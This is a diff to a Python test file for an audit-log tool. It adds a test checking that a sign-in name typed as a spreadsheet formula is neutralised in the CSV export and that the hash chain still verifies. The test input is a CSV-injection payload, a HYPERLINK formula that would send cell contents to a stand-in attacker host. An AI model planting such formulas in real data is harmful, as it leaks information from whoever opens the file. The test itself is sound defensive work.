@@ -3,7 +3,9 @@ an anchor kept outside the database, backdating shown by recorded_at, and the 00
 upgrade keeping old chains verifiable. On SQLite and PostgreSQL."""
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import uuid
 import warnings
@@ -432,3 +434,22 @@ def test_going_back_to_0010_drops_the_comments_and_up_again_keeps_them_append_on
     with engine.db.reader() as s:
         assert verify(s).ok
     engine.db.dispose()
+
+
+def test_a_name_typed_as_a_formula_is_text_in_the_csv_export_and_the_hash_still_recomputes(engine, people):
+    """Anyone at the sign-in page can type a name; a refused sign-in records it as the actor. In
+    the CSV an auditor opens in Excel it must not be a formula, and the documented rule (take one
+    leading apostrophe off) gives back the hashed text; the JSON lines keep it exact."""
+    typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
+    engine.sign_in_refused(typed, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
+    engine.sign_in_refused("'quoted", address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
+    rows = list(csv.DictReader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff"))))
+    actors = [r["actor"] for r in rows]
+    assert "'" + typed in actors and typed not in actors and "''quoted" in actors
+    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@"]  # nothing Excel would run
+    for r in rows:  # the hash, from the CSV alone, as docs/cli.md says
+        row = {k: v[1:] if v.startswith("'") else v for k, v in r.items()}
+        row.update({k: int(row[k]) if row[k] else None for k in ("seq", "instance_id", "task_id")})
+        assert outsider_hash(row) == row["hash"], row["seq"]
+    exact = [json.loads(line) for line in cli(engine.db, "audit", "export").stdout.splitlines()]
+    assert typed in [e["actor"] for e in exact]
